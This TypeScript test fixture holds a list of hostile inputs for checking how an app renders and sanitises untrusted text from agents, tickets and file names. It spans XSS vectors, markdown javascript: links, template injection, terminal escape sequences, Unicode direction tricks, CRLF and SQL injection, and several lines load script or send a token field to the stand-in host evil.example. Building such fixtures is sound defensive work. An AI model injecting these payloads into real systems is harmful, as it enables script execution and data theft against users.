// Text that wants to be more than text, as an agent, a ticket or a file's name could bring it.

const THERE = "http://evil.example";

export const PAYLOADS: readonly string[] = [
  "<script>window.hit=1;alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  `<img src=${THERE}/pixel.png>`,
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
  `"><script src=${THERE}/x.js></script>`,
  "<iframe src=javascript:alert(1)></iframe>",
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  '<a href="javascript:alert(1)">press</a>',
  "[press](javascript:alert(1))",
  "[press](JaVaScRiPt&colon;alert(1))",
  `![picture](${THERE}/p.png)`,
  "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "<javascript:alert(1)>",
  `<form action=${THERE}><input name=token autofocus onfocus=alert(1)></form>`,
  "<style>*{display:none}</style>",
  `<link rel=stylesheet href=${THERE}/a.css>`,
  `<base href=${THERE}/>`,
  `<meta http-equiv=refresh content="0;url=${THERE}">`,
  `<object data=${THERE}/o></object>`,
  `<embed src=${THERE}/e>`,
  `<video src=${THERE}/v onerror=alert(1) autoplay></video>`,
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}`-alert(1)-`",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "__proto__ constructor toString hasOwnProperty",
  "safe\u202etxt.exe\u2066 and \u200bhidden\ufeff",
  `\u001B]8;;${THERE}\u0007press\u001B]8;;\u0007 \u001B]0;title\u0007 \u001B[2J\u001B[31mred\u001B[0m`,
  "good\rbad \u0008\u0007",
  "<body onload=alert(1)><input onfocus=alert(1) autofocus>",
  "'; DROP TABLE runs; -- %00 %0d%0aSet-Cookie: a=b",
];

/** As long as the names of tickets, files and people get, without a place to break it. */
export const LONG = "Donaudampfschifffahrt".repeat(9).slice(0, 180);

/** In one line of a title: there control and format characters are refused. */
export const TITLES: readonly string[] = PAYLOADS.map((text) => text.replaceAll(/\p{C}/gu, "").slice(0, 200));

/** As names of files: what a file system takes. */
export const NAMES: readonly string[] = PAYLOADS.map((text) => text.replaceAll("/", "_").slice(0, 80));
